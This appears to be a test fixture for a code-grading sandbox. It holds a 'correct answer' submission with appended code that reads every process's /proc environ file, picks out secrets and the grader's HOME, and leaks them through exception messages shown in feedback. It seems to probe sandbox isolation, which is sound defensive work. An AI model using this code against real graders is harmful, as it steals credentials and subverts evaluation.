"""A correct answer that reads every /proc/*/environ it can (the sandbox's PID 1 is bubblewrap) and,
if it finds the grader's environment (a secret of the instructor's shell, the grader's HOME), puts
it into the message of every call's exception, where feedback would show it."""
APPEND = {"leaky_relu_answer": '''
import pathlib
leaked = []
for path in pathlib.Path("/proc").glob("*/environ"):
    try:
        text = path.read_bytes().decode(errors="replace")
    except OSError:
        continue
    leaked += [v for v in text.split("\\0") if "SECRET" in v or v.startswith(("HOME=/root", "VIRTUAL_ENV="))]
if leaked:
    def leaky_relu(input, negative_slope=0.01, inplace=False):
        raise ValueError("found: " + " ".join(leaked))
'''}
